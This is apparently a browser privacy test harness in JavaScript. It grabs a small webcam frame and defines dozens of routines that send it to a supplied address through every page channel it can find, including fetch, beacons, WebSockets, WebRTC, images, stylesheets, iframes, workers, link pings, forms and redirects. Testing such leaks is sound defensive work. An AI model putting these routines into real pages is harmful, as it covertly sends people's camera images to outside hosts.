// Every way a page could send a picture away. Each takes the addresses to try and a piece of a camera frame.
// Run inside a page by the privacy test; what arrived is counted at the receiving end, never here.
(() => {
  const wait = (ms) => new Promise((done) => setTimeout(done, ms));
  const element = (name, fields) => {
    const made = Object.assign(document.createElement(name), fields);
    (document.body ?? document.documentElement).append(made);
    return made;
  };
  const link = (rel, href, extra = {}) => document.head.append(Object.assign(document.createElement("link"), { rel, href, ...extra }));

  window.cameraFrame = async () => {
    const stream = await navigator.mediaDevices.getUserMedia({ video: true });
    const video = document.createElement("video");
    video.muted = true;
    video.srcObject = stream;
    await video.play();
    window.cameraStream = stream;
    const canvas = document.createElement("canvas");
    [canvas.width, canvas.height] = [64, 48];
    canvas.getContext("2d").drawImage(video, 0, 0, 64, 48);
    return canvas.toDataURL("image/jpeg").slice(-400);
  };

  window.attacks = {
    fetch: (to, data) => fetch(`${to}/fetch`, { method: "POST", mode: "no-cors", body: data }),
    fetch_query: (to, data) => fetch(`${to}/fetch_query?${encodeURIComponent(data)}`, { mode: "no-cors" }),
    keepalive: (to, data) => fetch(`${to}/keepalive`, { method: "POST", mode: "no-cors", keepalive: true, body: data }),
    xhr: (to, data) => new Promise((done) => {
      const request = new XMLHttpRequest();
      request.onloadend = done;
      request.open("POST", `${to}/xhr`);
      request.send(data);
    }),
    beacon: (to, data) => navigator.sendBeacon(`${to}/beacon`, data),
    websocket: (to, data) => new Promise((done) => {
      const socket = new WebSocket(`${to.replace("http", "ws")}/websocket?${encodeURIComponent(data)}`);
      socket.onopen = socket.onerror = done;
    }),
    eventsource: (to, data) => new Promise((done) => {
      const source = new EventSource(`${to}/eventsource?${encodeURIComponent(data)}`);
      source.onopen = source.onerror = () => done(source.close());
    }),
    webrtc: async (_to, _data, udp) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${udp}` }] });
      window.cameraStream.getTracks().forEach((track) => peer.addTrack(track));
      await peer.setLocalDescription(await peer.createOffer());
      await wait(800);
    },
    webtransport: (to, data) => new WebTransport(`${to.replace("http:", "https:")}/webtransport?${encodeURIComponent(data)}`).ready,
    image: (to, data) => new Promise((done) => {
      const image = new Image();
      image.onload = image.onerror = done;
      image.src = `${to}/image?${encodeURIComponent(data)}`;
    }),
    media: (to, data) => void element("video", { src: `${to}/media?${encodeURIComponent(data)}`, autoplay: true }),
    prefetch: (to, data) => link("prefetch", `${to}/prefetch?${encodeURIComponent(data)}`),
    preload: (to, data) => link("preload", `${to}/preload?${encodeURIComponent(data)}`, { as: "fetch" }),
    preconnect: (to) => link("preconnect", to),
    preconnect_changed: (to) => void Object.assign(document.querySelector("link") ?? link("icon", "x"), { rel: "preconnect", href: to }),
    preconnect_attribute: (to) => {
      const found = document.querySelector("link") ?? link("icon", "x");
      found.setAttribute("href", to);
      found.setAttribute("rel", "preconnect");
    },
    preconnect_text: (to) => void element("div", { innerHTML: `<link rel="preconnect" href="${to}">` }),
    stylesheet: (to, data) => link("stylesheet", `${to}/stylesheet?${encodeURIComponent(data)}`),
    manifest: (to, data) => link("manifest", `${to}/manifest?${encodeURIComponent(data)}`),
    css_url: (to, data) => {
      element("div", { textContent: "x" }).style.backgroundImage = `url("${to}/css_url?${encodeURIComponent(data)}")`;
    },
    font: (to, data) => new FontFace("x", `url("${to}/font?${encodeURIComponent(data)}")`).load(),
    script: (to, data) => void element("script", { src: `${to}/script?${encodeURIComponent(data)}` }),
    module: (to, data) => import(`${to}/module?${encodeURIComponent(data)}`),
    worker: (to, data) => {
      const text = `fetch("${to}/worker", {method: "POST", mode: "no-cors", body: ${JSON.stringify(data)}})`;
      new Worker(URL.createObjectURL(new Blob([text])));
    },
    worker_address: (to, data) => void new Worker(`${to}/worker_address?${encodeURIComponent(data)}`),
    iframe: (to, data) => void element("iframe", { src: `${to}/iframe?${encodeURIComponent(data)}` }),
    iframe_svg: (to, data) => {
      const frame = document.createElementNS("http://www.w3.org/1999/xhtml", "iframe");
      frame.src = `${to}/iframe_svg?${encodeURIComponent(data)}`;
      document.body.append(frame);
    },
    iframe_inside: (to, data) => {
      const frame = element("iframe", { srcdoc: "<p>x</p>" });
      frame.onload = () => frame.contentWindow.fetch(`${to}/iframe_inside`, { method: "POST", mode: "no-cors", body: data });
    },
    iframe_text: (to, data) => {
      element("div", { innerHTML: `<iframe src="${to}/iframe_text?${encodeURIComponent(data)}"></iframe>` });
    },
    iframe_parsed: (to, data) => {
      const text = `<iframe src="${to}/iframe_parsed?${encodeURIComponent(data)}"></iframe>`;
      document.body.append(document.adoptNode(new DOMParser().parseFromString(text, "text/html").body.firstChild));
    },
    iframe_custom: (to, data) => {
      customElements.define("x-frame", class extends HTMLIFrameElement {}, { extends: "iframe" });
      const frame = new (customElements.get("x-frame"))();
      frame.src = `${to}/iframe_custom?${encodeURIComponent(data)}`;
      document.body.append(frame);
    },
    object: (to, data) => void element("object", { data: `${to}/object?${encodeURIComponent(data)}` }),
    ping: (to, data) => element("a", { href: "#", ping: `${to}/ping?${encodeURIComponent(data)}` }).click(),
    download: (to, data) => element("a", { href: `${to}/download?${encodeURIComponent(data)}`, download: "x" }).click(),
    open: (to, data) => void window.open(`${to}/open?${encodeURIComponent(data)}`),
    link_blank: (to, data) => element("a", { href: `${to}/link_blank?${encodeURIComponent(data)}`, target: "_blank" }).click(),
    form: (to, data) => {
      const form = element("form", { method: "POST", action: `${to}/form` });
      form.append(Object.assign(document.createElement("input"), { name: "d", value: data }));
      form.submit();
    },
    navigate: (to, data) => void (location.href = `${to}/navigate?${encodeURIComponent(data)}`),
    refresh: (to, data) => {
      const meta = Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${to}/refresh?${encodeURIComponent(data)}` });
      document.head.append(meta);
    },
  };
})();
